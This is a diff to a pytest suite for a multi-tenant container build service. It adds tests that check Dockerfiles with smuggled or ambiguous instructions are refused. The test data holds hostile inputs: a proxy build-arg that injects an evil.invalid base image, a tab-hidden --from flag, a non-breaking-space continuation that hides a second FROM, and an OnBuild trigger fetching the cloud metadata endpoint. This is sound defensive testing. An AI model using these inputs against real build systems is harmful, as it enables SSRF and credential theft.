@@ -79,14 +79,14 @@ class World:
         assert layer.status_code == 404
 
 
-def _push_private_image(client: Client, repository: str) -> str:
+def _push_private_image(client: Client, repository: str, on_build: list[str] | None = None) -> str:
     """An image whose one layer holds PRIVATE_TEXT in /secret.txt; the layer's digest."""
     layer, tar = layer_of({"secret.txt": PRIVATE_TEXT, "bin/sh": b"#!stub\n"})
     config = canonical(
         {
             "architecture": "amd64",
             "os": "linux",
-            "config": {"Cmd": ["sh"]},
+            "config": {"Cmd": ["sh"], "OnBuild": on_build},
             "rootfs": {"type": "layers", "diff_ids": [digest_of(tar)]},
             "history": [{"created_by": "private"}],
         }
@@ -162,6 +162,51 @@ def test_a_build_cannot_use_another_spaces_image(world: World, dockerfile: str) 
     sdi_id = world.sdi({"Dockerfile": text, "hello.txt": "hi\n"})
     status = world.build(sdi_id)
     _failed(status, "base_image_denied", world)
+    world.nothing_pushed(sdi_id)
+
+
+@pytest.mark.parametrize(
+    ("dockerfile", "build_args", "code"),
+    [
+        (
+            "FROM ${{HTTP_PROXY}}spaces-1/x:1\nRUN true\n",
+            {"HTTP_PROXY": "evil.invalid/"},
+            "base_image_denied",
+        ),
+        (
+            "FROM {host}/{public}\nARG U=http://127.0.0.1:9/x\nADD $U /x\n",
+            {},
+            "dockerfile_unsupported",
+        ),
+        (
+            "FROM {host}/{public}\nCOPY --chown=0\t--from=evil.invalid/x:1 / /y\n",
+            {},
+            "base_image_denied",
+        ),
+        (
+            "FROM {host}/{public}\nRUN true \\\u00a0\nFROM evil.invalid/img:1\n",
+            {},
+            "dockerfile_invalid",
+        ),
+        ("FROM {host}/{public} AS alpine\nCOPY --from=alpine /a /a\n", {}, "base_image_denied"),
+    ],
+    ids=["proxy-arg", "add-variable", "tab-flag", "nbsp-continuation", "copy-from-itself"],
+)
+def test_dockerfiles_read_differently_by_the_engine_are_refused(
+    world: World, dockerfile: str, build_args: dict[str, str], code: str
+) -> None:
+    text = dockerfile.format(host=world.registry.host, public=world.public_base)
+    sdi_id = world.sdi({"Dockerfile": text})
+    _failed(world.build(sdi_id, build_args=build_args), code, world)
+    world.nothing_pushed(sdi_id)
+
+
+def test_a_base_whose_onbuild_triggers_fetch_is_refused(world: World) -> None:
+    client = Client.for_registry(world.registry.url, world.attacker.basic)
+    base = f"{world.space}/triggered-{uuid.uuid4().hex[:6]}"
+    _push_private_image(client, base, ["ADD http://169.254.169.254/latest/meta-data /m"])
+    sdi_id = world.sdi({"Dockerfile": f"FROM {world.registry.host}/{base}:1.0\nRUN true\n"})
+    _failed(world.build(sdi_id), "dockerfile_unsupported", world)
     world.nothing_pushed(sdi_id)
 
 
